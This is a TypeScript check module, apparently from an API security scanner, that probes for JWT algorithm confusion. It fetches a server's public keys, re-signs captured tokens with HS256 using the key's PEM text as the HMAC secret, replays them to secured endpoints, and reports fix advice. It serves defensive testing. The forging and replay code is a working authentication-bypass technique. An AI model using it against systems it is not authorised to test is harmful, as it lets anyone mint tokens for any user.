import { createPublicKey, type KeyObject } from 'node:crypto';
import type { Exchange, ProbeContext } from '../../../engines/probe/types.ts';
import { defineProbeCheck } from '../../../engines/probe/types.ts';
import { decodeJwt, isAsymmetricAlg, signHmac } from '../_jwt/jwt.ts';
import { type Attempt, acceptedAnywhere, numOption, reach } from '../_jwt/replay.ts';
import { findTargets, status } from '../_jwt/targets.ts';

const WELL_KNOWN = ['.well-known/jwks.json', 'jwks.json', '.well-known/openid-configuration'];
const KEY_PATH = /jwks|\/certs$|openid-configuration/i;
const MAX_KEYS = 3;
const MAX_FETCHES = 8;

interface FoundKey {
  key: KeyObject;
  kid?: string;
  /** Where the key came from, for the message. */
  source: string;
  /** The exchange that returned it. */
  exchange?: Exchange;
}

function json(x: Exchange | undefined): Record<string, unknown> | undefined {
  const body = x?.response?.body.trim() ?? '';
  if (!body.startsWith('{') || status(x) < 200 || status(x) > 299) return undefined;
  try {
    const v: unknown = JSON.parse(body);
    return v && typeof v === 'object' && !Array.isArray(v) ? (v as Record<string, unknown>) : undefined;
  } catch {
    return undefined;
  }
}

function keysOf(x: Exchange): FoundKey[] {
  const keys = json(x)?.keys;
  if (!Array.isArray(keys)) return [];
  const out: FoundKey[] = [];
  const source = `GET ${x.request.path.split('?')[0]}`;
  for (const jwk of keys.slice(0, 20)) {
    if (!jwk || typeof jwk !== 'object' || !['RSA', 'EC', 'OKP'].includes(String((jwk as { kty?: unknown }).kty))) continue;
    if ((jwk as { use?: unknown }).use === 'enc') continue;
    try {
      const key = createPublicKey({ key: jwk as import('node:crypto').JsonWebKey, format: 'jwk' });
      const kid = (jwk as { kid?: unknown }).kid;
      out.push({ key, kid: typeof kid === 'string' ? kid : undefined, source, exchange: x });
    } catch {
      // Not a usable public key.
    }
  }
  return out;
}

/** The server's public keys: the `publicKey` option, a JWKS the run already fetched, or the usual well-known paths (same origin only). */
async function publicKeys(ctx: ProbeContext): Promise<FoundKey[]> {
  const out: FoundKey[] = [];
  const option = ctx.options.publicKey;
  if (typeof option === 'string' && option.includes('-----BEGIN')) {
    try {
      out.push({ key: createPublicKey(option), source: 'the `publicKey` option' });
    } catch {
      // Not a PEM public key: ignored.
    }
  }
  for (const x of ctx.exchanges()) if (out.length === 0 && x.response?.body.includes('"keys"')) out.push(...keysOf(x));
  if (out.length) return out;
  const bases = [...new Set(['/', ctx.target.pathname])];
  const paths = [
    ...bases.flatMap((b) => WELL_KNOWN.map((w) => `${b}${w}`)),
    ...ctx.endpoints.filter((e) => e.method === 'GET' && !e.path.includes('{') && KEY_PATH.test(e.path)).map((e) => e.path),
  ];
  let fetches = 0;
  for (const path of [...new Set(paths)]) {
    if (fetches++ >= MAX_FETCHES || ctx.signal.aborted) break;
    const x = await ctx.send({ method: 'GET', path }, null);
    const keys = keysOf(x);
    if (keys.length) return keys;
    const uri = json(x)?.jwks_uri;
    if (typeof uri !== 'string') continue;
    let url: URL;
    try {
      url = new URL(uri, ctx.target);
    } catch {
      continue;
    }
    if (url.origin !== ctx.target.origin) continue;
    fetches++;
    const k = keysOf(await ctx.send({ method: 'GET', path: `${url.pathname}${url.search}` }, null));
    if (k.length) return k;
  }
  return [];
}

/** The byte strings a server may have passed to HMAC as "the key": its PEM file, as exported, with or without the final newline. */
function hmacSecrets(k: FoundKey, option: unknown): { form: string; secret: string }[] {
  const out: { form: string; secret: string }[] = [];
  if (k.source.startsWith('the `publicKey`') && typeof option === 'string') out.push({ form: 'PEM as given', secret: option });
  const spki = k.key.export({ type: 'spki', format: 'pem' }).toString();
  out.push({ form: 'SPKI PEM', secret: spki }, { form: 'SPKI PEM without the final newline', secret: spki.trimEnd() });
  if (k.key.asymmetricKeyType === 'rsa') {
    const pkcs1 = k.key.export({ type: 'pkcs1', format: 'pem' }).toString();
    out.push({ form: 'PKCS#1 PEM', secret: pkcs1 }, { form: 'PKCS#1 PEM without the final newline', secret: pkcs1.trimEnd() });
  }
  return out.filter((v, i) => out.findIndex((w) => w.secret === v.secret) === i);
}

export default defineProbeCheck({
  id: 'jwt-alg-confusion',
  title: 'JWT algorithm confusion (RS256 to HS256)',
  severity: 'critical',
  confidence: 'high',
  owasp: ['API2:2023'],
  cwe: ['CWE-347', 'CWE-327'],
  messages: {
    accepted:
      "{{method}} {{path}} accepted {{identity}}'s claims in a token re-signed with HS256 using the server's public key ({{form}} from {{source}}) as the HMAC secret{{reach}}: the key is public, so anyone can mint tokens for any user. Pin the verification algorithm to the key's (`algorithms: ['{{alg}}']`) and never let an HMAC verification use a public key.",
  },
  defaultOptions: { maxEndpoints: 3, publicKey: '' },
  docs: {
    description:
      "For identities whose tokens are signed with RS*/PS*/ES*/EdDSA, fetches the server's public key (the `publicKey` option, or same-origin /.well-known/jwks.json, /jwks.json, the OpenID configuration's jwks_uri) and replays requests to secured endpoints with the same claims signed with HS256, the public key's PEM text as the HMAC secret. Reported once per API.",
    attack:
      'A verifier that takes the algorithm from the token header and one "key" for everything checks an HS256 token with the RSA public key as the HMAC secret. The public key is, by design, public (JWKS endpoint, certificates, mobile apps), so the attacker signs any claims with it and the server accepts them: a full authentication bypass.',
    fix: "Pin the expected algorithm when verifying (`algorithms: ['RS256']`), use key objects typed by algorithm (jose's `importSPKI(pem, 'RS256')`, KeyObjects) rather than raw PEM strings, and upgrade JWT libraries that accept a public key as an HMAC secret.",
  },
  async run(ctx) {
    const targets = (await findTargets(ctx, { max: numOption(ctx.options, 'maxEndpoints', 3), jwt: true })).filter((t) =>
      isAsymmetricAlg(decodeJwt(t.creds.token)?.alg ?? ''),
    );
    if (targets.length === 0) return;
    const keys = await publicKeys(ctx);
    if (keys.length === 0) return;
    const hit = await acceptedAnywhere(ctx, targets, (t) => {
      const jwt = decodeJwt(t.creds.token)!;
      const ordered = [
        ...keys.filter((k) => k.kid !== undefined && k.kid === jwt.header.kid),
        ...keys.filter((k) => k.kid !== jwt.header.kid || k.kid === undefined),
      ];
      const attempts: (Attempt & { key: FoundKey; form: string })[] = [];
      ordered.slice(0, MAX_KEYS).forEach((key, i) => {
        for (const { form, secret } of hmacSecrets(key, ctx.options.publicKey)) {
          attempts.push({
            label: `${i}:${form}`,
            token: signHmac('HS256', secret, { ...jwt.header, alg: 'HS256' }, jwt.claims),
            key,
            form,
          });
        }
      });
      return attempts;
    });
    if (!hit) return;
    const { key, form } = hit.attempt as Attempt & { key: FoundKey; form: string };
    const { endpoint, identity, anonymous } = hit.target;
    ctx.report({
      endpoint,
      messageId: 'accepted',
      data: {
        method: endpoint.method,
        path: endpoint.path,
        identity,
        form,
        source: key.source,
        alg: decodeJwt(hit.target.creds.token)?.alg ?? 'RS256',
        reach: reach(hit),
      },
      exchanges: [hit.exchange, anonymous, hit.control, ...(key.exchange ? [key.exchange] : [])],
      identities: [identity],
    });
  },
});
